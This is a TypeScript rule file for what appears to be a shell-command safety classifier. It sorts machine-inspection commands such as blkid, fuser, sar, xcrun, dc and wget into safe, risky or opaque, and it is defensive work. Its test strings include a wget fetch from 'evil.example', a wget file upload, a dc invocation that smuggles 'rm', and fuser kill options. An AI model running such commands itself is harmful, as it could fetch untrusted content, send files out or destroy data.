import { type Finding, opaque as isOpaque, risky as isRisky, safe } from "../finding.ts";
import { lists } from "../judging/listing.ts";
import { opaque, reads, risky, several, words } from "../judging/make.ts";
import { parseOptions } from "../judging/options.ts";
import type { Entry, Family } from "../judging/rule.ts";
import type { Arg } from "../syntax/arg.ts";

/** What tells about the machine: its users, disks, processes and clock. */
export const machine: Family = {
  programs: `yes clear reset last lastb pstree findmnt blkid fuser sar ldconfig xcode-select xcrun adb mount hostnamectl timedatectl dc
    wget`,
  entries: () => [
    ...several("", "yes last lastb pstree findmnt", (name) => reads(name)),
    ...several("", "clear reset", (name) => reads(name, { options: {}, operands: "none", no: [`${name} x`] })),
    reads("blkid", {
      options: { flags: "p", valued: "osLUt" },
      yes: ["blkid -o value -s UUID"],
      no: ["blkid -c x", "blkid -g"],
    }),
    reads("fuser", {
      options: { flags: "avum46", valued: "n", long: words("all verbose user mount") },
      yes: ["fuser -v 3000/tcp", "fuser a.lock"],
      no: ["fuser -k 3000/tcp", "fuser -vk 3000/tcp", "fuser --kill a", "fuser -9 a"],
    }),
    reads("sar", {
      options: { flags: "ubBrdqwWyvSHRhtpA", valued: "nPisef" },
      yes: ["sar -u 1 3", "sar -n DEV 1 1"],
      no: ["sar -o x 1 3", "sar -uo x 1 3"],
    }),
    reads("ldconfig -p", { options: {}, operands: "none", no: ["ldconfig -p -C x"] }),
    risky("ldconfig", "changes which libraries are loaded", { asks: "reads" }),
    ...several("xcode-select", "-p --print-path", (name) =>
      reads(name, { options: {}, operands: "none", no: [`${name} -s /x`] }),
    ),
    ...["xcrun --show-sdk-path", "xcrun --show-sdk-version", "xcrun --find", "xcrun simctl list"].map((name) =>
      lists(name, { form: /^(\w+|-j|--json|available)$/ }),
    ),
    opaque("xcrun", "it runs another program", { asks: "reads" }),
    lists("adb devices", { form: /^-l$/ }),
    risky("xcode-select", "changes which tools run", { asks: "reads" }),
    tellsAlone("mount", "changes disks", /^$/),
    tellsAlone("hostnamectl", changesMachine, /^(status|hostname)?$/),
    tellsAlone("timedatectl", changesMachine, /^(status|show|list-timezones)?$/),
    {
      name: "dc",
      does: "reads",
      judge: reckons,
      yes: ["dc -e '2 2 + p'"],
      no: ["dc -e '!rm x'", "dc -e '[!rm x]x'", "dc -e '?'", "dc -f x", "dc", "dc -e '1 p' x"],
    },
    {
      name: "wget",
      does: "risky",
      why: "fetches something and writes it",
      asks: "reads",
      judge: asksHere,
      yes: [
        "wget x",
        "wget localhost:3000",
        "wget -qO- evil.example",
        "wget -O a.ts localhost",
        "wget -qO- --post-file=x localhost",
      ],
      no: ["wget -qO- localhost:3000", "wget -q -O - http://127.0.0.1:8080/health", "wget --spider -q localhost"],
    },
  ],
};

const changesMachine = "changes the network or the machine's settings";

/** Alone it tells how things are; with other words it changes them. */
function tellsAlone(name: string, why: string, form: RegExp): Entry {
  return risky(name, why, {
    judge: (args) =>
      args.length <= 1 && args.every(({ literal }) => literal !== null) && form.test(args[0]?.literal ?? "")
        ? safe
        : isRisky(`${name} ${why}`, name),
    yes: [`${name} x`, `${name} a b`],
    no: [name],
  });
}

/** `dc` runs `!command`, and text from the stack or its input; numbers, signs and printing do no more than that. */
function reckons(args: readonly Arg[], _scene: unknown, program: string): Finding {
  const [option, code, ...more] = args;
  const isPlain = option?.literal === "-e" && /^[\d\s.+*/%^~_vkpnfrdc-]+$/.test(code?.literal ?? "");
  return isPlain && more.length === 0 ? safe : isOpaque(`${program} may run a command`, program);
}

const here = /^(https?:\/\/)?(localhost|127\.0\.0\.1|\[::1\])(:\d{1,5})?([/?#][^\s{}[\]]*)?$/;

/** wget prints what this machine answers, or throws it away; anything else reaches out or writes. */
function asksHere(args: readonly Arg[], _scene: unknown, program: string): Finding {
  const parsed = parseOptions(args, {
    flags: "qSd46",
    valued: "OTt",
    long: words("quiet no-verbose spider server-response no-check-certificate"),
    longValued: words("timeout tries output-document"),
    words: /^-nv$/,
  });
  const told = parsed?.options ?? [];
  const places = told.filter(({ name }) => /^(O|output-document)$/.test(name));
  const keepsNothing = places.every(({ value }) => /^(-|\/dev\/(null|stdout))$/.test(value?.literal ?? ""));
  const isTold = places.length > 0 || told.some(({ name }) => name === "spider");
  const isHere = parsed?.operands.length === 1 && here.test(parsed.operands[0]?.literal ?? "");
  return isHere && isTold && keepsNothing ? safe : isRisky("wget fetches something and writes it", program);
}
